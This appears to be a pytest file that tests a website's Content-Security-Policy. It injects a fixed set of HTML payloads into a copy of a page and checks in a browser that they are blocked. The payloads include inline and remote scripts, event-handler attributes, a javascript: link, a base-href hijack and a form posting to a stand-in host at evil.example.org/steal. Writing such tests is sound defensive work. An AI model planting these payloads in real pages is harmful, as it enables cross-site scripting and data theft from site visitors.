"""The policy of every page: what stands in a page runs nothing and loads nothing from elsewhere; all else works."""

from __future__ import annotations

import base64
import functools
import hashlib
import http.server
import re
import shutil
import threading

import pytest
from bs4 import BeautifulSoup
from test_redirects import chapter, project  # noqa: F401  a fixture

from scripts.content_security_policy import STYLES, policy, with_policy

PAGE = "<!doctype html><html lang=en><head><meta charset=utf-8><title>T</title></head><body>{}</body></html>"
META = 'meta[http-equiv="Content-Security-Policy"]'
EVIL = "https://evil.example.org"
POLICY = re.compile('<meta http-equiv="Content-Security-Policy"[^>]*>')
#: What a text of the evidence might smuggle into a page, were it not escaped.
INJECTED = f"""
<script>document.title = "spoilt"</script>
<script src="{EVIL}/x.js"></script>
<script type="module">document.title = "spoilt"</script>
<img src="{EVIL}/x.png"><img src="nowhere.png" onerror="document.title = 'spoilt'">
<svg onload="document.title = 'spoilt'"><image href="{EVIL}/y.png"/></svg>
<a id="injected" href="javascript:document.title='spoilt'">here</a>
<style>body {{ display: none }}</style><link rel="stylesheet" href="{EVIL}/x.css">
<p style="background: url({EVIL}/z.png)">z</p>
<iframe src="{EVIL}"></iframe><iframe srcdoc="<script>top.document.title = 'spoilt'</script>"></iframe>
<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x.pdf"><video src="{EVIL}/x.mp4"></video>
<base href="{EVIL}/"><form id="sends" action="{EVIL}/steal"><input name="q"></form>
"""


def test_a_page_has_its_policy_before_anything_that_it_rules():
    soup = BeautifulSoup(with_policy(PAGE.format("")), "html.parser")
    assert [tag.name for tag in soup.head.find_all(True)] == ["meta", "meta", "title"]
    assert soup.select_one(META)["content"] == policy()


def test_the_policy_forbids_scripts_in_the_page_plugins_frames_and_other_hosts():
    rules = dict(rule.split(" ", 1) for rule in policy().split(";"))
    assert rules["default-src"] == "'none'" and rules["base-uri"] == "'none'"
    assert rules["script-src"] == rules["form-action"] == rules["style-src"] == "'self'"
    assert "http" not in policy() and "*" not in policy()
    assert [name for name, value in rules.items() if "unsafe" in value] == ["style-src-attr"]


@pytest.mark.parametrize("style", STYLES)
def test_a_style_in_the_page_is_allowed_by_what_it_says(style):
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    soup = BeautifulSoup(with_policy(PAGE.format(f"<style type=text/css>{style}</style>")), "html.parser")
    assert f"'sha256-{digest}'" in soup.select_one(META)["content"]


def test_another_style_in_the_page_is_not_allowed():
    assert "sha256" not in with_policy(PAGE.format("<style>body { display: none }</style>"))


def test_a_page_without_a_head_is_refused():
    with pytest.raises(ValueError, match="without a head"):
        with_policy("<p>no page</p>")


def test_pages_at_old_addresses_have_the_policy_too(project):  # noqa: F811
    event = {"version": "2026.12.0", "reason": "Shorter."}
    project(chapter("old", renamed=event | {"to": "bonds"}), chapter("gone", withdrawn=event))
    for name in ("old", "gone"):
        soup = BeautifulSoup((project.site / f"{name}.html").read_text(encoding="utf-8"), "html.parser")
        assert soup.select_one(META)["content"] == policy()


def test_every_page_of_the_site_has_one_policy_and_no_script_or_style_that_it_forbids(site):
    for path in sorted(site.glob("*.html")):
        text = path.read_text(encoding="utf-8")
        head = BeautifulSoup(text.partition("</head>")[0], "html.parser")
        (meta,) = head.select(META)
        assert not meta.find_all_previous(["script", "link", "style"]), path.name
        for attributes in re.findall(r"<script\b([^>]*)>", text):
            assert "src=" in attributes or "application/ld+json" in attributes, path.name
        assert set(re.findall(r"<style\b[^>]*>(.*?)</style>", text, re.S)) <= set(STYLES), path.name
        assert not re.search(r"<[a-z][^<>]*\son[a-z]+\s*=", text), path.name
        assert "javascript:" not in text.lower(), path.name


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def spoilt(site, tmp_path_factory):
    """Return a copy of the site in which one page holds what must not work, and that page as it was."""
    folder = tmp_path_factory.mktemp("spoilt") / "site"
    large = shutil.ignore_patterns("pdf", "brief", "data", "downloads", "_downloads")
    shutil.copytree(site, folder, ignore=large)
    text = (folder / "divisions.html").read_text(encoding="utf-8")
    text = text.replace("</article>", f"{INJECTED}</article>")
    (folder / "spoilt.html").write_text(text, encoding="utf-8")
    (folder / "open.html").write_text(POLICY.sub("", text), encoding="utf-8")  # the same without a policy
    return folder


@pytest.fixture(params=["http", "file"], scope="module")
def address(request, spoilt):
    """Return the address of the folder: served, and as it lies on the disk."""
    if request.param == "file":
        yield f"{spoilt.as_uri()}/"
        return
    handler = functools.partial(Quiet, directory=str(spoilt))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


@pytest.fixture
def tab(browser):
    """Return a tab that notes errors, and requests that left for another host."""
    context = browser.new_context()
    tab = context.new_page()
    tab.errors, tab.outside, tab.dialogs = [], [], []
    tab.on("console", lambda said: tab.errors.append(said.text) if said.type == "error" else None)
    tab.on("pageerror", lambda error: tab.errors.append(str(error)))
    tab.on("request", lambda asked: tab.outside.append(asked.url) if "evil" in asked.url else None)
    yield tab
    context.close()


@pytest.mark.browser
def test_what_is_smuggled_into_a_page_runs_nothing_and_asks_no_other_host(tab, address):
    # A request that the policy stops is told by the browser as one that failed, before it is sent.
    tab.route("**evil.example.org/**", lambda route: tab.outside.append("sent") or route.abort())
    tab.goto(f"{address}spoilt.html", wait_until="load")
    tab.locator("#injected").click(force=True)
    tab.evaluate("document.getElementById('sends').submit()")
    tab.wait_for_timeout(300)
    assert "spoilt" not in tab.title() and tab.locator("body").is_visible()
    assert "sent" not in tab.outside and tab.url == f"{address}spoilt.html"
    assert tab.evaluate("document.baseURI") == f"{address}spoilt.html"
    for rule in ("script-src", "style-src", "img-src", "base-uri", "form-action", "default-src"):
        assert any(rule in error for error in tab.errors), (rule, tab.errors)
    assert tab.evaluate("document.querySelectorAll('.claim-chip').length") > 10


@pytest.mark.browser
def test_without_the_policy_the_same_page_would_be_spoilt(tab, address):
    """The test above would prove nothing of a page that the injected text cannot spoil."""
    tab.route("**evil.example.org/**", lambda route: tab.outside.append("sent") or route.abort())
    tab.goto(f"{address}open.html", wait_until="load")
    assert tab.title() == "spoilt" and not tab.locator("body").is_visible() and "sent" in tab.outside


@pytest.mark.browser
def test_under_the_policy_everything_of_a_page_works(tab, address):
    tab.goto(f"{address}divisions.html")
    tab.locator(".theme-switch-button").first.click()
    tab.locator("a.claim-chip").first.hover()
    tab.wait_for_selector(".claim-popup")
    tab.keyboard.press("Escape")
    tab.locator("#figure-stances a.cite").click()
    tab.locator("dialog.cite-dialog[open]").wait_for()
    tab.keyboard.press("Escape")
    tab.emulate_media(media="print")
    assert tab.locator("li.claim-card").first.is_visible()
    tab.goto(f"{address}search.html?q=office")
    tab.locator(".search-hit").first.wait_for()
    tab.goto(f"{address}evidence.html?verdict=contradicted")
    tab.wait_for_function(
        "() => document.querySelectorAll('.report-table tbody tr:not([hidden])').length < 100"
    )
    assert tab.locator(".report-table[data-source] tbody tr:visible").count() < 100
    assert tab.errors == []
